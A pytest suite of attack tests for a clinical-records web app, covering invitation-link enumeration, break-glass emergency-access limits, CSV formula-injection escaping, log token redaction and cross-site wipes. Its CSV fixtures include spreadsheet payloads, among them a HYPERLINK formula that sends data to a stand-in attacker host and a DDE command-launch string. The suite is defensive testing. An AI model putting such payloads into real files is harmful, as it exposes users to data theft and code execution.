"""Attacks on invitation links, CSV downloads and break-glass access (issue items 5, 8 and 9).

Invitation links must not tell whether an email belongs to someone in Reconnect (under 42 CFR
Part 2, being a patient is itself protected) and must stop after a few tries; no CSV the project
writes may carry a cell a spreadsheet would run as a formula; break-glass is one grant at a time,
a few a day, with a real reason, and the page names nobody until the clinician identifies them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import statistics
import threading
import time

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client as HttpClient
from django.urls import reverse
from django.utils import timezone
from freezegun import freeze_time

from conftest import PASSWORD, _person, page_text, share
from proof.scorecard import record_figure
from reconnect.access import gate
from reconnect.access.models import EmergencyAccess
from reconnect.consent import sharing
from reconnect.consent.emergency import open_in_emergency
from reconnect.core.input import InvalidInput
from reconnect.core.tests.test_csvsafe import spreadsheet_fields
from reconnect.people.models import User
from reconnect.supporters import actions as supporters

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
REASON = "Client called the front desk in crisis and needs the safety plan now"


def _attack(name: str, attempts: int, successes: int) -> None:
    record_figure("8_attack_suite", cases=attempts, successes=successes, **{name: attempts})


def _answer(response) -> tuple[int, str, list[str]]:
    """What a person on the other end learns: status, body (per-request tokens removed), cookies."""
    body = re.sub(r'(name="csrfmiddlewaretoken" value=)"[^"]*"', r"\1", page_text(response))
    body = re.sub(r'nonce="[^"]*"', "", body)
    return response.status_code, body, sorted(response.cookies)


def _ask_to_join(http: HttpClient, raw: str, email: str):
    return http.post(
        reverse("supporters:invitation", args=[raw]),
        {"display_name": "Alex Friend", "email": email, "password": PASSWORD},
    )


# --- Item 5: invitation links -------------------------------------------------------------------


def test_joining_with_an_existing_or_a_new_email_answers_identically(
    casey, everyone, mailoutbox, django_capture_on_commit_callbacks
):
    existing = [person.email for person in everyone.values()] + [casey.email.upper()]
    pairs, same, times = 0, 0, {"existing": [], "new": []}
    for number, known in enumerate(existing):
        _, raw = supporters.invite(client=casey.client, name="Alex")
        answers = {}
        order = [("existing", known), ("new", f"new.person{number}@example.org")]
        for kind, email in order if number % 2 else reversed(order):
            started = time.perf_counter()
            with django_capture_on_commit_callbacks(execute=True):  # the email is sent, too
                response = _ask_to_join(HttpClient(), raw, email)
            times[kind].append(time.perf_counter() - started)
            answers[kind] = _answer(response)
        pairs += 1
        same += answers["existing"] == answers["new"]
    existing_ms = statistics.median(times["existing"]) * 1000
    new_ms = statistics.median(times["new"]) * 1000
    record_figure(
        "23_invite_enumeration",
        pairs_compared=pairs,
        identical=same,
        median_existing_ms=round(existing_ms, 1),
        median_new_ms=round(new_ms, 1),
    )
    _attack("invite_email_enumeration", pairs, pairs - same)
    assert same == pairs
    assert not User.objects.filter(email__startswith="new.person").exists()
    assert len(mailoutbox) == 2 * pairs
    assert len({m.subject for m in mailoutbox}) == 1
    assert abs(existing_ms - new_ms) <= 0.5 * max(existing_ms, new_ms) + 5


def test_an_invitation_link_stops_after_five_tries(
    casey, mailoutbox, django_capture_on_commit_callbacks
):
    _, raw = supporters.invite(client=casey.client, name="Alex")
    http = HttpClient()
    for _ in range(5):
        assert _ask_to_join(http, raw, "not-an-email").status_code == 400
    sixth = _ask_to_join(http, raw, "alex.friend@example.org")
    _, probe = supporters.invite(client=casey.client, name="Alex")
    with django_capture_on_commit_callbacks(execute=True):
        answers = [_ask_to_join(HttpClient(), probe, f"probe{n}@example.org") for n in range(8)]
    accepted = sum(a.status_code == 200 for a in answers)
    _attack("invitation_probing", 1 + len(answers), int(sixth.status_code != 410) + accepted - 5)
    assert sixth.status_code == 410
    assert "ask the person who invited you for a new link" in page_text(sixth)
    assert not User.objects.filter(email="alex.friend@example.org").exists()
    assert accepted == 5 and {a.status_code for a in answers[5:]} == {410}
    assert len(mailoutbox) == 5


# --- Item 8: CSV formula injection --------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _access_csv_after_views_by(names: list[str], casey, program, signed_in) -> str:
    """Casey's "who saw my record" CSV once a supporter called each of `names` has viewed her
    shared record under a consent whose purpose is that name too."""
    for number, name in enumerate(names):
        supporter = _person(program, f"Named{number}", "supporter")
        User.objects.filter(pk=supporter.pk).update(display_name=name)
        supporter.refresh_from_db()
        _, raw = supporters.invite(client=casey.client, name="Friend")
        supporters.accept(raw=raw, supporter=supporter)
        share(casey, supporter, ["checkin_summary"], purpose=name)
        sharing.shared_view(supporter, casey.client.pk)
    return signed_in(casey).get(reverse("records:my_record_access_download")).content.decode()


def test_formula_names_in_the_who_saw_my_record_csv_are_escaped(casey, program, signed_in):
    text = _access_csv_after_views_by(FORMULAS, casey, program, signed_in)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    escaped = [
        cell for cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
    ]
    record_figure(
        "23_csv_cells_escaped", cells=len(cells), escaped=len(escaped), unsafe=len(unsafe)
    )
    _attack("csv_formula_injection", len(FORMULAS), len(unsafe))
    assert not unsafe
    assert f"'{FORMULAS[0]}" in cells


def test_a_formula_after_a_semicolon_is_not_a_cell_in_a_semicolon_locale(casey, program, signed_in):
    names = [";=1+1", 'Robin;=HYPERLINK("https://evil.example")', "a|@SUM(1,2)", "x;-2+3"]
    text = _access_csv_after_views_by(names, casey, program, signed_in)
    fields = [f for separator in ";|" for f in spreadsheet_fields(text, separator)]
    unsafe = [f for f in fields if f.startswith(FORMULA_STARTS)]
    record_figure(
        "23_csv_cells_escaped", separator_fields=len(fields), separator_unsafe=len(unsafe)
    )
    _attack("csv_formula_after_separator", len(names), len(unsafe))
    assert not unsafe
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert set(names) <= set(cells)  # the names themselves are kept as they are


def test_the_empathy_command_escapes_formula_cells(tmp_path, capsys):
    path = tmp_path / "pairs.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["seeker_post", "response_post"])
        writer.writerows([[f, "That sounds hard. What happened?"] for f in FORMULAS])
    call_command("empathy", str(path))
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows for cell in row]
    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    record_figure("23_csv_cells_escaped", cells=len(cells), unsafe=len(unsafe))
    _attack("csv_formula_injection", len(FORMULAS), len(unsafe))
    assert not unsafe
    assert [row[0] for row in rows[1:]] == [f"'{f}" for f in FORMULAS]


# --- Item 9: break-glass ------------------------------------------------------------------------


def _clients(program, count: int) -> list:
    robin = _person(program, "Dana", "clinician")
    return [_person(program, f"Client{n}", "client", clinician=robin).client for n in range(count)]


def test_the_emergency_page_names_nobody_until_the_clinician_identifies_them(
    casey, lee, sam, signed_in
):
    body = page_text(signed_in(sam).get(reverse("consent:emergency_access")))
    listed = [name for name in (casey.display_name, lee.display_name) if name in body]
    _attack("emergency_page_lists_names", 1, int(bool(listed)))
    assert not listed


def test_asking_again_while_access_is_open_makes_no_second_grant(casey, sam):
    first = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
    again = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
    grants = EmergencyAccess.objects.filter(clinician=sam, client=casey.client).count()
    _attack("emergency_double_grant", 1, grants - 1)
    assert again.pk == first.pk and grants == 1
    with freeze_time(timezone.now() + dt.timedelta(minutes=61)):
        renewed = open_in_emergency(clinician=sam, client=casey.client, reason=REASON)
    assert renewed.pk != first.pk


def test_a_fourth_emergency_in_a_day_is_refused(program, sam):
    from reconnect.accounts.actions import assign_supervisor

    assign_supervisor(supervisor=_person(program, "Quinn", "supervisor"), clinician=sam)
    clients = _clients(program, 5)
    refused = []
    for client in clients:
        try:
            open_in_emergency(clinician=sam, client=client, reason=REASON)
        except InvalidInput as error:
            refused.append(error.message)
    granted = EmergencyAccess.objects.filter(clinician=sam).count()
    record_figure("6_break_glass_refusals", attempts=len(clients), refused_over_limit=len(refused))
    _attack("emergency_over_daily_limit", len(clients), max(0, granted - 3))
    assert granted == 3 and len(refused) == 2
    assert "You have opened 3 records in an emergency in the last 24 hours" in refused[0]
    assert "your supervisor can open it with you or review the need" in refused[0]
    with freeze_time(timezone.now() + dt.timedelta(hours=24, minutes=1)):
        open_in_emergency(clinician=sam, client=clients[3], reason=REASON)


@pytest.mark.parametrize(
    "reason",
    [
        "aaaaaaaaaaaaaaaaaaaa",
        "x x x x x x x x x x x",
        "help help help help help",
        "....................",
        "1234567890123456789",
        "emergencyemergencyemergency",
        "aaaa bbbb cccc dddd",
        "asdf qwer zxcv uiop",
        "lorem ipsum dolor sit amet",
    ],
)
def test_a_reason_that_is_not_a_sentence_opens_nothing(casey, sam, reason):
    with pytest.raises(InvalidInput) as refused:
        open_in_emergency(clinician=sam, client=casey.client, reason=reason)
    record_figure("6_break_glass_refusals", attempts=1, refused_reason=1)
    assert "in a sentence" in refused.value.message
    assert not EmergencyAccess.objects.exists()


def _ask_by_name(http: HttpClient, person, reason: str = REASON):
    """The emergency form as a clinician fills it, and what they learn (the typed name and
    email taken out, since the form shows them back)."""
    name, email = person if isinstance(person, tuple) else (person.display_name, person.email)
    response = http.post(
        reverse("consent:emergency_access"), {"full_name": name, "email": email, "reason": reason}
    )
    status, body, cookies = _answer(response)
    return status, body.replace(name, "NAME").replace(email, "EMAIL"), cookies


def test_over_the_limit_a_real_client_and_an_invented_one_get_the_same_answer(
    program, sam, signed_in
):
    clients = _clients(program, 3)
    for client in clients:
        open_in_emergency(clinician=sam, client=client, reason=REASON)
    real = [_person(program, f"Real{n}", "client") for n in range(4)]
    http, pairs, same = signed_in(sam), 0, 0
    http.get(reverse("consent:emergency_access"))  # the session's first answer sets its cookies
    for number, person in enumerate(real):
        invented = (f"Invented Person{number}", f"invented{number}@example.org")
        answers = [_ask_by_name(http, person), _ask_by_name(http, invented)]
        pairs += 1
        same += answers[0] == answers[1]
        assert answers[0][0] == 400
        assert "You have opened 3 records in an emergency in the last 24 hours" in answers[0][1]
    record_figure("6_break_glass_refusals", oracle_pairs_compared=pairs, oracle_identical=same)
    _attack("emergency_client_oracle", pairs, pairs - same)
    assert same == pairs
    assert EmergencyAccess.objects.filter(clinician=sam).count() == 3
    looked_up = gate.AccessEvent.objects.filter(actor_id=sam.pk, outcome="denied")
    assert looked_up.count() == 2 * pairs and not looked_up.exclude(client_id=None).exists()


def test_guessing_names_stops_after_five_that_match_nobody(program, sam, signed_in):
    http = signed_in(sam)
    guesses = [(f"Guess Person{n}", f"guess{n}@example.org") for n in range(12)]
    answers = [_ask_by_name(http, guess) for guess in guesses]
    missed = sum("No client in this program has that" in body for _, body, _ in answers)
    real = _person(program, "Hidden", "client")
    after = _ask_by_name(http, real)
    found = int("No client in this program has that" not in after[1] and after != answers[-1])
    record_figure("6_break_glass_refusals", name_guesses=len(guesses) + 1, guesses_answered=missed)
    _attack("emergency_name_guessing", len(guesses) + 1, max(0, missed - 5) + found)
    assert missed == 5
    assert "5 names you entered in the last 24 hours matched no client" in answers[-1][1]
    assert after == answers[-1] and not EmergencyAccess.objects.exists()


def race_for_grants(threads: int = 4) -> dict[str, object]:
    """In a process of its own, on a real database: two clients, two requests each, at once."""
    from reconnect.people.models import Program

    program = Program.objects.create(name=f"Race {time.time_ns()}")
    sam = _person(program, f"Sam{program.pk}", "clinician")
    clients = _clients(program, 4)
    open_in_emergency(clinician=sam, client=clients[0], reason=REASON)
    open_in_emergency(clinician=sam, client=clients[1], reason=REASON)
    start, outcomes = threading.Barrier(threads), []

    def attempt(client) -> None:
        clinician = User.objects.get(pk=sam.pk)
        start.wait()
        try:
            open_in_emergency(clinician=clinician, client=client, reason=REASON)
            outcomes.append("answered")
        except InvalidInput:
            outcomes.append("refused")
        except Exception as error:
            outcomes.append(type(error).__name__)
        finally:
            connection.close()

    racers = [threading.Thread(target=attempt, args=(c,)) for c in clients[2:] * (threads // 2)]
    for thread in racers:
        thread.start()
    for thread in racers:
        thread.join(60)
    grants = EmergencyAccess.objects.filter(clinician=sam)
    return {
        "grants": grants.count(),
        "most_per_client": max(grants.filter(client=c).count() for c in clients[2:]),
        "outcomes": sorted(outcomes),
    }


def test_two_simultaneous_requests_make_one_grant_and_keep_the_limit():
    import json

    from tests.children import QUICK_HASHES, database_for, run_reconnect

    env = {
        **database_for("breakglass_race"),
        **QUICK_HASHES,  # nobody signs in: the racing people get quick password hashes
        "EMAIL_BACKEND": "django.core.mail.backends.locmem.EmailBackend",
    }
    script = (
        "import json, django; django.setup(); "
        "from tests.test_attacks_invites_csv_breakglass import race_for_grants; "
        "print(json.dumps(race_for_grants()))"
    )
    result = run_reconnect("shell", "-c", script, env=env, timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    race = json.loads(result.stdout.strip().splitlines()[-1])
    record_figure("6_break_glass_refusals", attempts=4, concurrent_grants=race["grants"])
    _attack("emergency_concurrent_grants", 4, max(0, race["grants"] - 3))
    assert race["grants"] == 3 and race["most_per_client"] == 1, race
    assert set(race["outcomes"]) <= {"answered", "refused"}, race


# --- Log redaction and Quick exit ---------------------------------------------------------------


def test_a_link_token_without_a_digit_never_reaches_a_log():
    import secrets

    from reconnect.core.accesslog import redact_path
    from reconnect.core.logfilters import redact

    tokens = []
    while len(tokens) < 3:  # about one real token in 1,700 has no digit
        raw = secrets.token_urlsafe(32)
        if not any(c.isdigit() for c in raw):
            tokens.append(raw)
    paths = [
        reverse(name, args=[token])
        for token in tokens
        for name in ("supporters:invitation", "supporters:finish_joining", "records:download")
    ]
    leaked = sum(
        token in redact_path(path) or token in redact(f"GET https://clinic.example.org{path}")
        for token in tokens
        for path in paths
        if token in path
    )
    record_figure("14_link_tokens_in_logs", digit_free_tokens=len(paths), leaked=leaked)
    _attack("digit_free_token_in_logs", len(paths), leaked)
    assert leaked == 0


def test_another_site_cannot_wipe_a_signed_out_persons_offline_plan():
    embeds = [
        {"Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "image"},
        {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"},
        {
            "Sec-Fetch-Mode": "navigate",
            "Sec-Fetch-Site": "cross-site",
            "Sec-Fetch-Dest": "document",
        },
        {"Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"},
        {},  # a client that sends no fetch metadata at all
    ]
    wiped = sum(
        "Clear-Site-Data" in HttpClient().get(reverse("accounts:quick_exit"), headers=h)
        for h in embeds
    )
    _attack("quick_exit_embedded_wipe", len(embeds), wiped)
    assert wiped == 0
    pressed = HttpClient().get(
        reverse("accounts:quick_exit"),
        headers={"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin"},
    )
    assert "storage" in pressed["Clear-Site-Data"]
